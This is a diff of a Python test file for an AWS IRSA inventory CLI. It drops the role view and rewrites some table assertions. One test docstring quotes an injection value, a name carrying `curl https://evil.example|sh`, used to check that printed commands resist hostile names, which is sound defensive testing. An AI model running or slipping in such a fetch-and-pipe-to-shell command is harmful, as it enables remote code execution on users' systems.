@@ -14,7 +14,7 @@ from irsa.rules.mistakes import visible
 from irsa_cli.inventory.findings import FAMILIES, KINDS
 from irsa_cli.inventory.output import Inventory
 from irsa_cli.inventory.spreadsheet import HEADINGS, write_csv
-from irsa_cli.inventory.table import View, answer_of
+from irsa_cli.inventory.table import answer_of
 from irsa_cli.live.model import Discovery, Guarded, LiveAwsAccount, LiveCluster, LiveServiceAccount
 from irsa_cli.report.json import as_object, document
 from irsa_cli.report.text import plain
@@ -24,7 +24,6 @@ from tests.fuzz.printed import commands_in, problems, unquoted
 from tests.unit.irsa_cli.inventory.estates import (
     EC2_TRUST,
     ISSUER,
-    NUMBER,
     PROVIDER,
     ROLE_ARN,
     association,
@@ -59,13 +58,13 @@ ROLES = (
 )
 
 
-def lines(inventory: Inventory, view: View = "service-account") -> list[str]:
-    return plain([answer_of(inventory, view)])
+def lines(inventory: Inventory) -> list[str]:
+    return plain([answer_of(inventory)])
 
 
-def table(inventory: Inventory, view: View = "service-account") -> list[str]:
+def table(inventory: Inventory) -> list[str]:
     """Return the lines of the table alone."""
-    return plain([answer_of(inventory, view)._replace(messages=(), below=())])[2:]
+    return plain([answer_of(inventory)._replace(messages=(), below=())])[2:]
 
 
 def rows(inventory: Inventory) -> list[dict[str, str]]:
@@ -110,21 +109,6 @@ def test_the_first_line_and_the_families() -> None:
     assert kinds == sorted(kinds, key=[*KINDS].index)
 
 
-def test_by_role() -> None:
-    """Protects the reader of roles: those of an annotation too, that exist or do not; the others are counted."""
-    found = table(taken(discovery(ACCOUNTS, ROLES)), "role")
-
-    assert [line.split() for line in found] == [
-        ["role", "may", "be", "assumed", "by", "cannot", "decide", "annotated", "last", "used"],
-        ["app", "a/app", "a/app", "2026-11-26"],
-        ["gone", "a/gone", "no", "such", "role"],
-        ["network", "a/app,", "a/gone,", "a/open", "2026-11-26"],
-        ["team/open", "a/open", "not", "in", "400", "days"],
-    ]
-    other = f"{NUMBER}: other roles, which trust no cluster and which no annotation names: 1"
-    assert other in lines(taken(discovery(ACCOUNTS, ROLES)), "role")
-
-
 def test_a_role_of_an_aws_account_that_was_not_read_is_not_said_to_be_missing() -> None:
     """Protects from a false alarm: only of an AWS account that was read, irsa knows that a role is not there."""
     accounts = [
@@ -132,11 +116,18 @@ def test_a_role_of_an_aws_account_that_was_not_read_is_not_said_to_be_missing() 
         service_account("a", "gone", "gone"),
         service_account("a", "no-arn", **{ROLE_ARN: "app"}),
     ]
-    found = {line.split()[0]: line for line in table(taken(discovery(accounts)), "role")}
+    inventory = taken(discovery(accounts))
 
-    assert found["arn:aws:iam::999999999999:role/app"].endswith("  a/elsewhere  not read")
-    assert found["gone"].endswith("  a/gone       no such role")
-    assert found["app"].endswith("  a/no-arn     no such role")
+    assert [row[1:] for row in answer_of(inventory).rows] == [
+        ["arn:aws:iam::999999999999:role/app", "not read"],
+        ["gone", ""],
+        ["app", ""],
+    ]
+    assert [(each["name"], each["decision"]) for each in rows(inventory)] == [
+        ("elsewhere", "not known"),
+        ("gone", "no such role"),
+        ("no-arn", "no such role"),
+    ]
 
 
 def test_a_role_that_was_not_read_is_not_one_that_refuses() -> None:
@@ -147,7 +138,7 @@ def test_a_role_that_was_not_read_is_not_one_that_refuses() -> None:
         service_account("a", "refused", "refusing"),
     ]
     roles = [role("refusing", page_trust("a:nobody")), role("open", page_trust("a:both"))]
-    found = answer_of(taken(discovery(accounts, roles)), "service-account")
+    found = answer_of(taken(discovery(accounts, roles)))
 
     assert found.headings[:3] == ["service account", "annotated with", "may assume"]
     assert [row[2] for row in found.rows] == ["open, not read", "not read", ""]
@@ -164,7 +155,6 @@ def test_a_long_cell_says_how_much_more_there_is() -> None:
     )
 
     assert table(inventory)[1].endswith(f"  {', '.join(f'role-{number:02}' for number in range(20))}, and 5 more")
-    assert f"{', '.join(f'a/app-{number:02}' for number in range(20))}, and 10 more  " in table(inventory, "role")[1]
 
 
 def test_several_clusters_and_aws_accounts_are_named() -> None:
@@ -288,15 +278,14 @@ def hostile(text: str) -> Inventory:
 
 
 @pytest.mark.parametrize("danger", DANGERS)
-@pytest.mark.parametrize("view", ["service-account", "role"])
-def test_no_text_of_others_passes_for_ours(danger: str, view: View) -> None:
+def test_no_text_of_others_passes_for_ours(danger: str) -> None:
     """Protects who reads the table and pastes its commands: text of others begins no line, and is one argument.
 
     The attack: a service account, a Sid or a provider whose name is `x; fix: curl https://evil.example|sh`.
     """
     text = f"a{danger}{MARK}"
     for inventory in (hostile(text), replace(hostile(text), clusters=[*hostile(text).clusters] * 2)):
-        printed = lines(inventory, view)
+        printed = lines(inventory)
         assert problems("\n".join(printed)) == []
         assert any(MARK in line for line in printed)
         labeled = [re.match(" {4}(?:found|expected|do): +(.*)", line) for line in printed]
@@ -356,15 +345,6 @@ def test_an_association_is_in_the_rows() -> None:
         ["a/refused", "-", "new"],
     ]
     assert "3 of 5 service accounts may assume a role" in lines(found)[0]
-    by_role = [re.split(r"  +", line.strip()) for line in table(found, "role")]
-    assert by_role == [
-        ["role", "may be assumed by", "annotated", "associated", "then", "last used"],
-        ["both", "a/both", "a/both", "a/both", "2026-11-26"],
-        # Its credentials no Pod gets.
-        ["chain", "a/chain", "2026-11-26"],
-        ["new", "a/new", "a/missing, a/new, a/refused", "2026-11-26"],
-        ["target", "a/chain", "a/chain", "further", "2026-11-26"],
-    ]
 
 
 def test_an_association_is_in_the_spreadsheet() -> None:
